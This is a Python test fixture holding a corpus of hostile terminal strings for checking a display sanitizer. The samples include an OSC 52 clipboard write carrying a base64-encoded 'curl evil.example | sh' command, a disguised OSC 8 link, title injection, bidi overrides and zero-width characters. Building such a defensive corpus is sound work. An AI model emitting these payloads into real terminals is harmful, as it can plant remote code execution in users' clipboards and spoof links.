"""A hostile corpus: text an attacker (or a broken server) could put in any value the app shows.

Each sample names what must never get through `clean`, nor reach the terminal: the sequence
itself and its payload (the base64 of a clipboard write, a link's target, a title), so that a
test can look for them in a value or in the bytes written to a pseudo-terminal. `visible` is
what a reader should still see of it: proof that the value was shown at all.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

# What OSC 52 would put in the clipboard: a command waiting for the next paste in a shell.
CLIPBOARD = base64.b64encode(b"curl evil.example | sh\n").decode()


@dataclass(frozen=True)
class Sample:
    name: str
    text: str
    gone: tuple[str, ...]  # never in a cleaned value nor in the terminal's bytes
    visible: str  # what is left to read once cleaned (line breaks as spaces)


CORPUS = (
    Sample(
        "OSC 52 clipboard write, ST-ended",
        f"copy\x1b]52;c;{CLIPBOARD}\x1b\\me",
        (f"\x1b]52;c;{CLIPBOARD}", CLIPBOARD),
        "copyme",
    ),
    Sample(
        "OSC 8 link hidden behind other words",
        "\x1b]8;;http://evil.example/\x1b\\https://www.ovh.com\x1b]8;;\x1b\\",
        ("\x1b]8;;http://evil", "evil.example"),
        "https://www.ovh.com",
    ),
    Sample(
        "OSC 0 window title, BEL-ended",
        "ti\x1b]0;pwned-title\x07tle",
        ("\x1b]0;pwned", "pwned-title"),
        "title",
    ),
    Sample("CSI 2J clears the screen", "wipe\x1b[2J\x1b[Hout", ("\x1b[2J",), "wipeout"),
    Sample("C1 CSI (0x9B)", "c1\x9b2J\x9b31mcsi", ("\x9b",), "c1csi"),
    Sample(
        "C1 OSC (0x9D) ended by C1 ST", "c1\x9d0;c1-title\x9cosc", ("\x9d", "c1-title"), "c1osc"
    ),
    Sample("OSC ended by BEL, no ST", "bel\x1b]2;bel-title\x07ended", ("bel-title",), "belended"),
    Sample("OSC never ended", "open\x1b]0;endless-title", ("endless-title",), "open"),
    Sample("BEL alone", "ding\x07dong", ("\x07",), "ding␇dong"),
    Sample("DEL and SOH", "d\x7fe\x01l", ("\x7f", "\x01"), "d␡e␁l"),
    Sample("bidi override", "invoice\u202egpj.exe\u202c", ("\u202e", "\u202c"), "invoicegpj.exe"),
    Sample("zero-width joiners", "pa\u200dy\u200bpa\u2060l\ufeff", ("\u200d", "\u200b"), "paypal"),
    Sample("10,000 characters", "long\x1b[2J" * 1250, ("\x1b[2J",), "long" * 1250),
    # Kept only where text is legitimately multi-line (an SMS); a terminal shows them anyway.
    Sample("line breaks", "one\r\ntwo\nthree\u2028four", (), "one two three four"),
)
# Every character `clean` may never let through: C0 (but a kept line break) and C1 controls, DEL.
CONTROLS = frozenset(chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))) - {"\n"}


def controls_in(text: str, lines: bool = False) -> set[str]:
    """The control characters `text` holds (line breaks allowed with `lines`)."""
    return {c for c in text if c in CONTROLS or (c == "\n" and not lines)}
